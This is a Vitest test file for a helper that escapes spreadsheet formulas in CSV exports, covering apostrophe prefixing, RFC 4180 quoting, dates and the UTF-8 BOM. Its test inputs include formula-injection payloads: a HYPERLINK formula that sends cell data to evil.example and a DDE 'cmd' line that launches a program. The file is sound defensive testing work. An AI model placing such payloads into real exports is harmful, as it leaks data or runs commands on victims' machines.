import { describe, expect, it } from 'vitest';
import { CSV_BOM, escapeFormula, safeCell, toCsvLine } from './spreadsheet-safe.ts';

describe('safeCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '\'=HYPERLINK("http://evil.example/?x="&A1,"点我")'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+cmd|x', "'+1+cmd|x"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['  =1+1', "'  =1+1"], // leading spaces do not hide it
    ['-12.5', "'-12.5"], // a number-looking string is still text
    ['+8613812345678', "'+8613812345678"],
  ])('escapes %j', (input, output) => {
    expect(safeCell(input)).toBe(output);
  });

  it.each(['张三', '13812345678', '021-55551234', 'a=b', '1+1', 'x@example.com', "'already quoted", ''])(
    'leaves %j alone',
    (s) => {
      expect(safeCell(s)).toBe(s);
    },
  );

  it('keeps real numbers and dates typed, so spreadsheets can sum and sort them', () => {
    expect(safeCell(-12.5)).toBe(-12.5);
    expect(safeCell(0)).toBe(0);
    const d = new Date('2024-06-15T00:00:00Z');
    expect(safeCell(d)).toBe(d);
  });

  it('turns missing and non-finite values into an empty cell', () => {
    for (const v of [null, undefined, Number.NaN, Number.POSITIVE_INFINITY, new Date('nope')])
      expect(safeCell(v)).toBeNull();
  });

  it('renders booleans, bigints, arrays and objects as text, escaped too', () => {
    expect(safeCell(true)).toBe('true');
    expect(safeCell(12345678901234567890n)).toBe('12345678901234567890');
    expect(safeCell(['VIP', '老客户'])).toBe('VIP、老客户');
    expect(safeCell(['=1+1', 'VIP'])).toBe("'=1+1、VIP");
    expect(safeCell([])).toBe('');
    expect(safeCell({ a: 1 })).toBe('{"a":1}');
  });
});

describe('escapeFormula', () => {
  it('prefixes an apostrophe only to dangerous text', () => {
    expect(escapeFormula('=A1')).toBe("'=A1");
    expect(escapeFormula('A1')).toBe('A1');
  });
});

describe('toCsvLine', () => {
  it('joins plain values with commas', () => {
    expect(toCsvLine(['张三', 13812345678, null, undefined, 0])).toBe('张三,13812345678,,,0');
  });

  it('quotes values holding a comma, quote, CR or LF and doubles quotes (RFC 4180)', () => {
    expect(toCsvLine(['上海市,浦东新区', '他说"好"', 'a\nb', 'a\rb'])).toBe(
      '"上海市,浦东新区","他说""好""","a\nb","a\rb"',
    );
  });

  it('escapes formulas before quoting', () => {
    expect(toCsvLine(['=HYPERLINK("x","y")', '-1,5'])).toBe('"\'=HYPERLINK(""x"",""y"")","\'-1,5"');
    expect(toCsvLine(['\r\n=1+1'])).toBe('"\'\r\n=1+1"');
  });

  it('writes dates as ISO 8601', () => {
    expect(toCsvLine([new Date('2024-06-15T08:30:00Z')])).toBe('2024-06-15T08:30:00.000Z');
  });

  it('gives an empty line for no values', () => {
    expect(toCsvLine([])).toBe('');
  });
});

describe('CSV_BOM', () => {
  it('is the UTF-8 byte order mark EF BB BF', () => {
    expect([...Buffer.from(CSV_BOM, 'utf8')]).toEqual([0xef, 0xbb, 0xbf]);
  });
});
